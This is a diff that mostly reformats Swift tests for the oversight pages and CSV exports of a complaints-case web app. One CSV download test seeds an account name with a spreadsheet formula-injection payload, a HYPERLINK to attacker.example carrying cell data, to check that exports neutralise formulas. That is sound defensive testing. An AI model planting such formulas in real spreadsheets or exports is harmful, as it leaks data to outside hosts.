@@ -2,6 +2,7 @@ import DocketCore
 import DocketStore
 import Foundation
 import Testing
+
 @testable import DocketWeb
 
 @Suite("The oversight pages")
@@ -11,9 +12,12 @@ struct OversightPageTests {
             try await t.installRulebook()
             let members = [try await t.user("A", [.member], number: "A1"), try await t.user("B", [.member], number: "A2")]
             for i in 0..<3 {
-                _ = try await t.call(.POST, "/api/v1/cases", as: members[0], json: [
-                    "respondent_membership_number": "A2", "relation": i == 0 ? "third_party" : "directly_affected",
-                    "category": "bullying", "summary": "S\(i)"])
+                _ = try await t.call(
+                    .POST, "/api/v1/cases", as: members[0],
+                    json: [
+                        "respondent_membership_number": "A2", "relation": i == 0 ? "third_party" : "directly_affected",
+                        "category": "bullying", "summary": "S\(i)",
+                    ])
             }
             let governance = try await t.account("Gov", [.governance])
             let member = try await t.account("Mem", [.member], number: "A3")
@@ -43,7 +47,8 @@ struct IdleCasePageTests {
             try await t.installRulebook()
             let a = try await t.user("A", [.member], number: "A1")
             _ = try await t.user("B", [.member], number: "A2")
-            let r = try await t.call(.POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S"])
+            let r = try await t.call(
+                .POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S"])
             let id = try #require(r["id"] as? String).lowercased()
             t.clock.set(t.clock.now.addingTimeInterval(40 * 86_400))
             let governance = try await t.account("Gov", [.governance])
@@ -74,12 +79,16 @@ struct IndependentRouteOversightTests {
             let reviewer = try await t.account("Rev", [.reviewer])
             let governance = try await t.account("Gov", [.governance])
             let auditor = try await t.account("Aud", [.auditor])
-            let r = try await t.call(.POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": "A9", "relation": "witness", "category": "bullying", "summary": "S"])
+            let r = try await t.call(
+                .POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": "A9", "relation": "witness", "category": "bullying", "summary": "S"])
             let id = try #require(r["id"] as? String)
             let reference = try #require(r["reference"] as? String)
             _ = try await t.call(.POST, "/api/v1/cases/\(id)/allocate-caseworker", as: reviewer)
-            let s = try await t.call(.POST, "/api/v1/cases/\(id)/suspend", as: reviewer, json: [
-                "reasons": "Risk to staff while the complaint is looked into.", "scope": "All meetings", "review_date": "2026-03-20"])
+            let s = try await t.call(
+                .POST, "/api/v1/cases/\(id)/suspend", as: reviewer,
+                json: [
+                    "reasons": "Risk to staff while the complaint is looked into.", "scope": "All meetings", "review_date": "2026-03-20",
+                ])
             #expect(s.status == .ok, "\(s.text)")
             t.clock.set(t.clock.now.addingTimeInterval(40 * 86_400))
             for (who, sees) in [(reviewer, true), (governance, false), (auditor, false)] {
@@ -113,16 +122,20 @@ struct FigureDrillDownTests {
             // Two complaints of one kind: one about a member (standard route), one about an office-holder.
             var refs: [String] = []
             for number in ["A2", "A9"] {
-                let r = try await t.call(.POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": number, "relation": "witness", "category": "bullying", "summary": "S"])
+                let r = try await t.call(
+                    .POST, "/api/v1/cases", as: a,
+                    json: ["respondent_membership_number": number, "relation": "witness", "category": "bullying", "summary": "S"])
                 refs.append(try #require(r["reference"] as? String))
                 guard number == "A2" else { continue }
                 // The member's case is allocated and dismissed at triage, so it counts in the figures.
                 let text = try #require(r["id"] as? String)
                 let id = try #require(UUID(uuidString: text))
                 let store = try await t.app.docket.store(on: t.app.db)
-                _ = try await store.execute(.allocateCaseworker(pool: [Candidate(id: worker.id, openCases: 0)], seed: 1), on: id,
-                                            by: governance.person.actor, at: t.clock.now, on: t.app.db)
-                let d = try await t.call(.POST, "/api/v1/cases/\(id.uuidString)/dismiss", as: worker, json: ["reasons": "No clause of the rulebook is engaged."])
+                _ = try await store.execute(
+                    .allocateCaseworker(pool: [Candidate(id: worker.id, openCases: 0)], seed: 1), on: id,
+                    by: governance.person.actor, at: t.clock.now, on: t.app.db)
+                let d = try await t.call(
+                    .POST, "/api/v1/cases/\(id.uuidString)/dismiss", as: worker, json: ["reasons": "No clause of the rulebook is engaged."])
                 #expect(d.status == .ok)
             }
             let g = WebClient(t)
@@ -164,10 +177,16 @@ struct CSVDownloadTests {
                 if c == "\"" {
                     let next = csv.index(after: i)
                     if next < csv.endIndex, csv[next] == "\"" { cell.append("\""); i = next } else { quoted = false }
-                } else { cell.append(c) }
-            } else if c == "\"" { quoted = true }
-            else if c == "," || c == "\r\n" || c == "\n" { cells.append(cell); cell = "" }
-            else { cell.append(c) }
+                } else {
+                    cell.append(c)
+                }
+            } else if c == "\"" {
+                quoted = true
+            } else if c == "," || c == "\r\n" || c == "\n" {
+                cells.append(cell); cell = ""
+            } else {
+                cell.append(c)
+            }
             i = csv.index(after: i)
         }
         return cells
@@ -188,16 +207,21 @@ struct CSVDownloadTests {
             let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")"
             let caseworker = try await t.account(formula, [.caseworker])
             let governance = try await t.account("Gov", [.governance])
-            let r = try await t.call(.POST, "/api/v1/cases", as: a, json: [
-                "respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S"])
+            let r = try await t.call(
+                .POST, "/api/v1/cases", as: a,
+                json: [
+                    "respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S",
+                ])
             let id = try #require(r["id"] as? String)
             #expect(try await t.call(.POST, "/api/v1/cases/\(id)/allocate-caseworker", as: governance).status == .ok)
             #expect(try await t.call(.POST, "/api/v1/cases/\(id)/dismiss", as: caseworker, json: ["reasons": "Outside the rules."]).status == .ok)
             let web = WebClient(t)
             try await web.signIn(governance.person.email!, "long enough password")
             var sawName = false
-            for table in ["backlog", "backlog-kind", "idle", "timeliness-category", "timeliness-caseworker", "timeliness-panel",
-                          "outcomes-category", "outcomes-caseworker", "outcomes-panel", "sanctions", "complainants", "suspensions"] {
+            for table in [
+                "backlog", "backlog-kind", "idle", "timeliness-category", "timeliness-caseworker", "timeliness-panel",
+                "outcomes-category", "outcomes-caseworker", "outcomes-panel", "sanctions", "complainants", "suspensions",
+            ] {
                 let csv = try await web.get("/oversight/\(table).csv")
                 #expect(csv.status == .ok, "\(table)")
                 #expect(Self.formulaCells(csv.body).isEmpty, "\(table): \(Self.formulaCells(csv.body))")
